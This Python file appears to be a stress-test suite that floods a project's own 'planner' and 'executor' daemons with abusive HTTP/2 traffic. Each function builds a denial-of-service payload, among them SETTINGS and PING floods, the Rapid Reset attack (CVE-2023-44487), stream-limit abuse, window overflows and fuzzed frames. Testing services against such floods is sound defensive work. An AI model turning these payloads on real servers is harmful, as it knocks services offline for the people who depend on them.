# SPDX-License-Identifier: Apache-2.0
"""Frames that cost the daemon more than the client."""
import os
import random
import struct

import http2
from flood import attack, flood
from daemons import HONEST_CALLS

CONNECTIONS = 20
AT_ONCE = 200  # frames


def of(frame):
    """The same frame again and again."""
    blob = frame * AT_ONCE
    return lambda state: blob


@attack("planner", "executor", "planner-tls")
def settings_flood(target, until):
    """SETTINGS, each of which must be acknowledged, without reading the acknowledgements."""
    flood(target, until, CONNECTIONS, http2.open_http2, of(http2.settings(initial_window=65535)))


@attack("planner", "executor")
def large_settings(target, until):
    """SETTINGS with thousands of entries."""
    entries = struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 65535) * 2700
    flood(target, until, CONNECTIONS, http2.open_http2, of(http2.frame(http2.SETTINGS, 0, 0, entries)))


@attack("planner", "executor", "planner-tls")
def ping_flood(target, until):
    """PINGs, each of which must be answered, without reading the answers."""
    flood(target, until, CONNECTIONS, http2.open_http2, of(http2.frame(http2.PING, 0, 0, b"\0" * 8)))


@attack("planner", "executor", "planner-tls")
def rapid_reset(target, until):
    """Calls that are reset at once, so that the limit on concurrent streams does not hold (CVE-2023-44487)."""
    path, request = HONEST_CALLS[target.kind]
    headers, data = http2.request_headers(path), http2.message(request)

    def produce(state):
        blob = []
        for _ in range(AT_ONCE):
            stream, state["stream"] = state["stream"], state["stream"] + 2
            blob += [http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers),
                     http2.frame(http2.DATA, http2.END_STREAM, stream, data),
                     http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))]
        return b"".join(blob)
    flood(target, until, CONNECTIONS, http2.open_http2, produce)


def refuse_streams(target, until, first):
    headers = http2.request_headers(HONEST_CALLS[target.kind][0])

    def produce(state):
        blob = []
        for _ in range(AT_ONCE):
            stream, state["stream"] = state["stream"], state["stream"] + 2
            blob.append(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers))
        return b"".join(blob)
    flood(target, until, CONNECTIONS, lambda target: http2.open_http2(target, first), produce)


@attack("planner", "executor")
def refused_streams(target, until):
    """Calls beyond the limit on concurrent streams, from clients that do not acknowledge this limit."""
    refuse_streams(target, until, http2.settings())


@attack("planner", "executor", "planner-tls")
def acknowledged_streams(target, until):
    """Calls beyond the limit on concurrent streams, from clients that acknowledge this limit before they know it."""
    refuse_streams(target, until, http2.settings() + http2.frame(http2.SETTINGS, http2.ACK))


@attack("planner", "executor")
def window_update_flood(target, until):
    """WINDOW_UPDATEs of one byte for the connection."""
    flood(target, until, CONNECTIONS, http2.open_http2, of(http2.window_update(0, 1)))


@attack("planner", "executor")
def window_overflow(target, until):
    """WINDOW_UPDATEs beyond the largest window."""
    flood(target, until, CONNECTIONS, http2.open_http2, of(http2.window_update(0, http2.LARGEST_WINDOW)))


@attack("planner", "executor")
def empty_data(target, until):
    """DATA frames of no bytes, on one stream."""
    def produce(state):
        start = b""
        if state["stream"] == 1:
            start = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.request_headers(HONEST_CALLS[target.kind][0]))
            state["stream"] = 3
        return start + http2.frame(http2.DATA, 0, 1, b"") * AT_ONCE
    flood(target, until, CONNECTIONS, http2.open_http2, produce)


@attack("planner", "executor")
def unknown_frames(target, until):
    """Frames of types that do not exist, and PRIORITY, which servers ignore."""
    unknown = http2.frame(0xEE, 0xFF, 7, b"x" * 16000) + http2.frame(http2.PRIORITY, 0, 9, b"\0\0\0\1\x10")
    blob = unknown * 20
    flood(target, until, CONNECTIONS, http2.open_http2, lambda state: blob)


@attack("planner", "executor")
def broken_frames(target, until):
    """Frames of known types with random flags, streams and payloads."""
    source = random.Random(1)

    def produce(state):
        return b"".join(http2.frame(source.randrange(10), source.randrange(256), source.randrange(8),
                                    os.urandom(source.randrange(40))) for _ in range(20))
    flood(target, until, CONNECTIONS, http2.open_http2, produce)
